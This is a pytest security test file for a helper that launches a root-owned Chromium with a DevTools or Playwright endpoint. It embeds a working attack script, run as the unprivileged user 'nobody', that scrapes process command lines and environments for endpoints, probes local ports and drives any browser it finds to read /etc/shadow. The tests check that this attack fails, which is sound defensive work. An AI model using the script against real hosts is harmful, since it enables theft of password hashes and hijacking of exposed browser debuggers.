"""Another local user gets nothing from the browsers ``scripts/remote-browser.sh`` starts; their owner gets all.

The helper runs as root in CI and in the docs, and a DevTools or Playwright endpoint is the browser's full
control: whoever reaches it can open ``file:///etc/shadow`` in a browser that runs as root and read it back. Each
test starts a browser as root (the owner) and then runs a small stdlib script as the unprivileged user ``nobody``
that tries what any local user can: read the state folder, every process's command line and environment, ask
every port the kit's processes listen on for the DevTools or Playwright listing, and drive whatever endpoint that
turned up. The same script run by the owner with the printed endpoint proves the script itself works.
"""

from __future__ import annotations

import contextlib
import json
import os
import shutil
import socket
import subprocess
import sys
import sysconfig
import tempfile
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from rdk_helpers import desktop_image_or_skip

from reference.browser import serve

pytestmark = [
    pytest.mark.skipif(
        os.geteuid() != 0 or shutil.which("setpriv") is None,
        reason="the attacks run as the unprivileged user 'nobody', and switching to it needs root and setpriv",
    ),
    pytest.mark.browser,
    pytest.mark.container,
]

AS_NOBODY = ("setpriv", "--reuid=nobody", "--regid=nogroup", "--clear-groups", "--")
# The venv's interpreter may live under root's home, which nobody cannot enter; a system Python of the same version
# can still import the venv's Playwright (a local user can read it like any other installed package).
SYSTEM_PYTHON = f"/usr/bin/python{sys.version_info.major}.{sys.version_info.minor}"
SITE_PACKAGES = sysconfig.get_paths()["purelib"]

# What a local user can try with the standard library. Reads its orders as JSON from argv[1] and prints a JSON report:
# "read" (everything it could read: file contents, command lines, environments), "http" (each probe and its answer),
# "controlled" (endpoints it drove), "stolen" (endpoints through which it read the file it was after).
ATTACK = r"""
import base64, json, os, re, socket, struct, sys, time, urllib.parse

orders = json.loads(sys.argv[1])
report = {"read": [], "http": [], "controlled": [], "stolen": [], "errors": []}
URL = re.compile(r"(?:ws|http)://[0-9A-Za-z.\-\[\]:]+:[0-9]+[^\s\"'\\<>]*")
learned = set(orders.get("endpoints", []))


def remember(where, text):
    report["read"].append([where, text[:20000]])
    learned.update(URL.findall(text))


def on_walk_error(error):
    report["read"].append(["walk " + str(getattr(error, "filename", "")), "unreadable: " + type(error).__name__])


for folder, _, names in os.walk(orders["state"], onerror=on_walk_error):
    for name in names:
        path = os.path.join(folder, name)
        try:
            with open(path, "rb") as handle:
                remember(path, handle.read(1 << 20).decode("utf-8", "replace"))
        except OSError as error:
            report["read"].append([path, "unreadable: " + type(error).__name__])
for pid in os.listdir("/proc"):
    if pid.isdigit():
        for part in ("cmdline", "environ"):
            try:
                with open(f"/proc/{pid}/{part}", "rb") as handle:
                    text = handle.read().replace(b"\0", b" ").decode("utf-8", "replace")
            except OSError:
                continue
            if text.strip():
                remember(f"/proc/{pid}/{part}", text)


def http(host, port, method, path):
    data = b""
    try:
        with socket.create_connection((host, port), timeout=5) as conn:
            conn.settimeout(5)
            request = f"{method} {path} HTTP/1.1\r\nHost: {host}:{port}\r\nConnection: close\r\n\r\n"
            conn.sendall(request.encode())
            # Some servers keep the connection open whatever the request says: stop at the announced length.
            while len(data) < (1 << 20) and not complete(data):
                chunk = conn.recv(65536)
                if not chunk:
                    break
                data += chunk
    except OSError as error:
        if not data:
            return "error " + type(error).__name__
    return data.decode("utf-8", "replace")


def complete(data):
    head, separator, body = data.partition(b"\r\n\r\n")
    length = re.search(rb"(?im)^content-length:\s*(\d+)", head)
    return bool(separator) and length is not None and len(body) >= int(length.group(1))


for host, port in orders["targets"]:
    for method, path in (("GET", "/json/version"), ("GET", "/json/list"), ("GET", "/json"),
                         ("PUT", "/json/new?" + "file://" + orders["file"]), ("GET", "/")):
        answer = http(host, port, method, path)
        report["http"].append([host, port, method, path, answer[:600]])
        learned.update(URL.findall(answer))
        # A Playwright server names its WebSocket path to anyone who asks for /json.
        for found in re.findall(r'"wsEndpointPath"\s*:\s*"([^"]+)"', answer):
            learned.add(f"ws://{host}:{port}{found}")

for url in sorted(learned):
    if url.startswith("http"):
        answer = http(urllib.parse.urlsplit(url).hostname, urllib.parse.urlsplit(url).port, "GET",
                      urllib.parse.urlsplit(url).path.rstrip("/") + "/json/version")
        report["http"].append([url, "json/version", answer[:600]])
        learned.update(u for u in URL.findall(answer) if u.startswith("ws"))


def exactly(conn, size):
    data = b""
    while len(data) < size:
        chunk = conn.recv(size - len(data))
        if not chunk:
            raise OSError("closed")
        data += chunk
    return data


def ws_open(url):
    parts = urllib.parse.urlsplit(url)
    conn = socket.create_connection((parts.hostname, parts.port), timeout=15)
    key = base64.b64encode(os.urandom(16)).decode()
    conn.sendall((f"GET {parts.path or '/'} HTTP/1.1\r\nHost: {parts.hostname}:{parts.port}\r\n"
                  f"Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: {key}\r\n"
                  "Sec-WebSocket-Version: 13\r\n\r\n").encode())
    head = b""
    while b"\r\n\r\n" not in head:
        head += exactly(conn, 1)
    if b" 101 " not in head.split(b"\r\n")[0]:
        raise OSError("no upgrade: " + head.split(b"\r\n")[0].decode("latin-1"))
    return conn


def ws_send(conn, text):
    data, mask = text.encode(), os.urandom(4)
    size = len(data)
    head = bytes([0x81]) + (bytes([0x80 | size]) if size < 126 else bytes([0x80 | 126]) + struct.pack(">H", size))
    conn.sendall(head + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(data)))


def ws_receive(conn):
    message = b""
    while True:
        first, second = exactly(conn, 2)
        size = second & 0x7F
        if size == 126:
            size = struct.unpack(">H", exactly(conn, 2))[0]
        elif size == 127:
            size = struct.unpack(">Q", exactly(conn, 8))[0]
        payload = exactly(conn, size)
        if first & 0x0F == 8:
            raise OSError("closed by the server")
        if first & 0x0F in (0, 1):
            message += payload
            if first & 0x80:
                return message.decode("utf-8", "replace")


def devtools(url):
    conn = ws_open(url)
    counter = [0]

    def call(method, params, session=None):
        counter[0] += 1
        message = {"id": counter[0], "method": method, "params": params}
        if session:
            message["sessionId"] = session
        ws_send(conn, json.dumps(message))
        while True:
            answer = json.loads(ws_receive(conn))
            if answer.get("id") == counter[0]:
                if "error" in answer:
                    raise OSError(json.dumps(answer["error"]))
                return answer["result"]

    target = call("Target.createTarget", {"url": "file://" + orders["file"]})["targetId"]
    report["controlled"].append(url)
    session = call("Target.attachToTarget", {"targetId": target, "flatten": True})["sessionId"]
    text = ""
    for _ in range(40):
        evaluated = call("Runtime.evaluate", {"expression": "document.body ? document.body.innerText : ''",
                                              "returnByValue": True}, session)
        text = str(evaluated.get("result", {}).get("value", ""))
        if orders["marker"] in text:
            break
        time.sleep(0.25)
    call("Target.closeTarget", {"targetId": target})
    conn.close()
    return text


def playwright(url):
    sys.path.insert(0, orders["site_packages"])
    from playwright.sync_api import sync_playwright

    with sync_playwright() as driver:
        browser = driver.chromium.connect(url, timeout=15000)
        report["controlled"].append(url)
        try:
            page = browser.new_page()
            page.goto("file://" + orders["file"])
            return page.inner_text("body")
        finally:
            browser.close()


for url in sorted(learned):
    if not url.startswith("ws"):
        continue
    try:
        text = devtools(url) if "/devtools/" in url else playwright(url)
    except Exception as error:
        report["errors"].append([url, type(error).__name__ + ": " + str(error)[:300]])
        continue
    if orders["marker"] in text:
        report["stolen"].append([url, text[:40]])
print(json.dumps(report))
"""


def _attack(
    state: Path,
    targets: list[tuple[str, int]],
    *,
    as_owner_with: str | None = None,
    file: str = "/etc/shadow",
    marker: str = "root:",
) -> dict[str, Any]:
    """Run the attack as nobody (or, ``as_owner_with`` an endpoint, as the owner holding it); its report."""
    orders = {
        "state": str(state),
        "targets": targets,
        "endpoints": [as_owner_with] if as_owner_with else [],
        "file": file,
        "marker": marker,
        "site_packages": SITE_PACKAGES,
    }
    with tempfile.TemporaryDirectory(prefix="attacker-home-") as home:
        os.chmod(home, 0o777)  # the attacker's scratch HOME (Playwright's driver wants one)
        if as_owner_with:
            command = [sys.executable, "-c", ATTACK, json.dumps(orders)]
        else:
            python = SYSTEM_PYTHON if os.access(SYSTEM_PYTHON, os.X_OK) else "python3"
            command = [*AS_NOBODY, python, "-c", ATTACK, json.dumps(orders)]
        environment = {"PATH": "/usr/bin:/bin", "HOME": home, "LANG": "C.UTF-8"}
        run = subprocess.run(command, env=environment, capture_output=True, text=True, timeout=240, check=False)
    assert run.returncode == 0, run.stderr[-3000:]
    report: dict[str, Any] = json.loads(run.stdout)
    return report


def _listening_ports(root: int) -> set[int]:
    """The TCP ports this machine's network offers that a process started from ``root`` listens on."""
    inodes: set[str] = set()
    for pid in {root, *serve.descendants(root)}:
        try:
            names = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            continue
        for name in names:
            try:
                target = os.readlink(f"/proc/{pid}/fd/{name}")
            except OSError:
                continue
            if target.startswith("socket:["):
                inodes.add(target[8:-1])
    ports: set[int] = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        for line in Path(table).read_text().splitlines()[1:]:
            fields = line.split()
            if fields[3] == "0A" and fields[9] in inodes:  # 0A: LISTEN
                ports.add(int(fields[1].rsplit(":", 1)[1], 16))
    return ports


def _secret(endpoint: str) -> str:
    """What must not leak: the endpoint's path when it carries one (a capability), else the whole endpoint."""
    path = urlsplit(endpoint).path
    return path if len(path) > 8 else endpoint


def _assert_nothing_for_nobody(report: dict[str, Any], endpoint: str) -> None:
    readable = [where for where, text in report["read"] if not text.startswith("unreadable") and "walk" not in where]
    leaked = [where for where, text in report["read"] if _secret(endpoint) in text]
    answered = [probe for probe in report["http"] if str(probe[-1]).split(" ", 2)[1:2] in (["200"], ["101"])]
    assert report["stolen"] == [], f"nobody read the file through {report['stolen']}"
    assert report["controlled"] == [], f"nobody drove the browser through {report['controlled']}"
    assert leaked == [], f"nobody found the endpoint's secret in {leaked}"
    assert answered == [], f"the kit's ports answered nobody: {answered}"
    assert not [where for where in readable if where.startswith("/") and not where.startswith("/proc/")], readable


@pytest.fixture
def exposed_state() -> Iterator[Path]:
    """A state folder where the default one is: under a folder every user can enter (like /tmp or a CI output)."""
    parent = Path(tempfile.mkdtemp(prefix="driverkit-attack-"))
    parent.chmod(0o755)
    try:
        yield parent / "remote-browser"
    finally:
        shutil.rmtree(parent, ignore_errors=True)


def _assert_private(state: Path) -> None:
    assert state.stat().st_mode & 0o777 == 0o700, oct(state.stat().st_mode)
    for entry in state.iterdir():
        mode = entry.lstat().st_mode & 0o777
        assert mode & 0o077 == 0, f"{entry} is {oct(mode)}"


@pytest.mark.parametrize("kind", ["cdp", "playwright-server"])
def test_another_local_user_can_neither_find_nor_drive_the_browser(kind: str, exposed_state: Path) -> None:
    endpoint = serve.start(kind, exposed_state)
    try:
        pid = int((exposed_state / f"{kind}.pid").read_text())
        ports = sorted(_listening_ports(pid))
        assert ports, "the helper's processes listen on no port: nothing to attack"
        report = _attack(exposed_state, [("127.0.0.1", port) for port in ports])
        _assert_nothing_for_nobody(report, endpoint)
        _assert_private(exposed_state)
        owner = _attack(exposed_state, [], as_owner_with=endpoint)
        assert owner["stolen"], f"the owner, holding the endpoint, could not drive the browser: {owner['errors']}"
    finally:
        serve.stop(kind, exposed_state)


@pytest.mark.parametrize("kind", ["cdp", "playwright-server"])
def test_the_browser_runs_sandboxed_as_an_ordinary_user_on_a_loopback_of_its_own(
    kind: str, exposed_state: Path
) -> None:
    serve.start(kind, exposed_state)
    try:
        keeper = int((exposed_state / f"{kind}.pid").read_text())
        processes = {pid: _status(pid) for pid in serve.descendants(keeper) if pid != keeper}
        chromium = {pid: status for pid, status in processes.items() if "chromium" in _command(pid)}
        assert chromium, processes
        own_network = os.readlink(f"/proc/{keeper}/ns/net")
        assert own_network != os.readlink("/proc/self/ns/net"), "the keeper stayed on this machine's network"
        browser = min(chromium)  # the first Chromium started: the browser process, which holds the DevTools port
        assert os.readlink(f"/proc/{browser}/ns/net") == own_network
        # Its user namespace maps it as an ordinary user, and it holds no capability (Chromium's sandbox gives some
        # of its processes namespaces of their own below that one, with powers over those alone).
        assert Path(f"/proc/{browser}/uid_map").read_text().split()[0] != "0"
        own_users = os.readlink(f"/proc/{browser}/ns/user")
        for pid, status in chromium.items():
            if os.readlink(f"/proc/{pid}/ns/user") == own_users:
                assert status["CapEff"] == "0000000000000000", (pid, _command(pid))
        assert not [pid for pid in chromium if "--no-sandbox" in _command(pid)], "Chromium runs without its sandbox"
        if kind == "cdp":  # its first tab has a renderer (a Playwright server's browser has no tab yet)
            assert any(status["Seccomp"] == "2" for status in chromium.values()), "no Chromium process is sandboxed"
    finally:
        serve.stop(kind, exposed_state)


def _status(pid: int) -> dict[str, str]:
    try:
        lines = Path(f"/proc/{pid}/status").read_text().splitlines()
    except OSError:
        return {}
    return {key: value.strip() for key, _, value in (line.partition(":") for line in lines)}


def _command(pid: int) -> str:
    try:
        return Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode("utf-8", "replace")
    except OSError:
        return ""


def test_a_state_folder_of_another_user_is_refused_and_a_loose_one_of_ours_is_closed(exposed_state: Path) -> None:
    exposed_state.mkdir(mode=0o700)
    os.chown(exposed_state, 65534, 65534)  # nobody made it first (the default folder is a fixed name under /tmp)
    try:
        with pytest.raises(serve.ServeError, match="owned by"):
            serve.start("cdp", exposed_state)
    finally:
        with contextlib.suppress(serve.ServeError):
            serve.stop("cdp", exposed_state)  # a start that wrongly went ahead must not leave its browser running
    assert list(exposed_state.iterdir()) == [], "the helper wrote into a folder another user controls"
    os.chown(exposed_state, 0, 0)
    exposed_state.chmod(0o777)
    try:
        serve.start("cdp", exposed_state)
        _assert_private(exposed_state)
    finally:
        serve.stop("cdp", exposed_state)


def test_another_local_user_cannot_drive_the_desktop_containers_browser(exposed_state: Path) -> None:
    desktop_image_or_skip()
    endpoint = serve.start("desktop-cdp", exposed_state)
    try:
        address = urlsplit(endpoint).hostname
        assert address is not None
        # The container's browser runs as its unprivileged user: the file to read is one that user can read.
        report = _attack(exposed_state, [(address, serve.DESKTOP_DEVTOOLS_PORT)], file="/etc/passwd", marker="root:")
        _assert_nothing_for_nobody(report, endpoint)
        _assert_private(exposed_state)
        with urllib.request.urlopen(f"{endpoint.rstrip('/')}/json/version", timeout=10) as answer:
            version = json.loads(answer.read())
        assert urlsplit(version["webSocketDebuggerUrl"]).path.startswith(urlsplit(endpoint).path + "/devtools/")
        owner = _attack(exposed_state, [], as_owner_with=endpoint, file="/etc/passwd", marker="root:")
        assert owner["stolen"], f"the owner, holding the endpoint, could not drive the browser: {owner['errors']}"
    finally:
        serve.stop("desktop-cdp", exposed_state)


def test_the_desktop_relay_refuses_to_start_without_a_token() -> None:
    desktop_image_or_skip()
    image = os.environ.get("KIT_DESKTOP_IMAGE") or "kit/desktop:latest"
    # timeout(1) inside: a relay that starts anyway would otherwise serve until the engine is told to stop it.
    run = subprocess.run(
        ["docker", "run", "--rm", "--network", "none", "--entrypoint", "timeout", image,
         "10", "python3", "/opt/kit/devtools_relay.py", "9222", "9223"],
        capture_output=True, text=True, timeout=120, check=False,
    )  # fmt: skip
    assert run.returncode != 0 and "token" in run.stderr, (run.returncode, run.stderr[-500:])


def test_a_listening_port_is_found_for_a_process_tree() -> None:
    # The attack's port discovery itself: without it the attack tests would prove nothing.
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen()
        assert listener.getsockname()[1] in _listening_ports(os.getpid())
